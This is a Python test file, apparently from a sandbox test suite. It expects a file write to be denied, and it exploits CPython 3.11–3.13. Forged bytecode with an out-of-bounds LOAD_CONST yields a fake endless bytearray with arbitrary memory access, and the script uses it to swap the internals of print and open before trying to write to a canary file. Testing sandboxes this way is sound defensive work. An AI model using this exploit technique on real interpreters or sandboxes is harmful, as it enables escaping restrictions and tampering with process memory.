# SPDX-License-Identifier: Apache-2.0
# tries: load a constant past the end of the constants: our bytes, taken for an object (P34)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# for: any
#
# The interpreter trusts its bytecode: LOAD_CONST n takes the word that is n places behind the
# start of co_consts.  With n chosen so that it lands in a bytes object, that object's contents are
# a pointer, here to a bytearray, forged as well, that begins at 0 and never ends.  Through it
# `print` and `open` exchange their C functions.  The instructions are those of 3.11 to 3.13.

import opcode
import struct
import sys

if not (3, 11) <= sys.version_info < (3, 14):
    sys.stderr.write('skip: bytecode of another version\n')
    sys.exit(77)

HEADER = bytes.__basicsize__ - 1
endless = struct.pack('NNNNNNN', 1 << 30, id(bytearray), sys.maxsize, sys.maxsize, 0, 0, 0)


def template():
    return None


def code_loading(address):
    n = (address - id(template.__code__.co_consts) - tuple.__basicsize__) // 8
    op = opcode.opmap
    instructions = [op['RESUME'], 0]
    for shift in 24, 16, 8:
        instructions += [op['EXTENDED_ARG'], n >> shift & 255]
    instructions += [op['LOAD_CONST'], n & 255, op['RETURN_VALUE'], 0]
    return template.__code__.replace(co_code=bytes(instructions))


# The pointer must lie behind the constants: one of many copies does.
pointers = [struct.pack('N', id(endless) + HEADER) * (i + 1) for i in range(2000)]
pointer = max(pointers, key=id)
template.__code__ = code_loading(id(pointer) + HEADER)
memory = template()

for start, end in (16, 32), (48, 56):       # PyCFunctionObject: m_ml and m_self; vectorcall
    a, b = (slice(id(function) + start, id(function) + end) for function in (print, open))
    memory[a], memory[b] = memory[b], memory[a]

try:
    print('@CANARY@/file', 'w').write('PWNED')
except OSError:
    pass
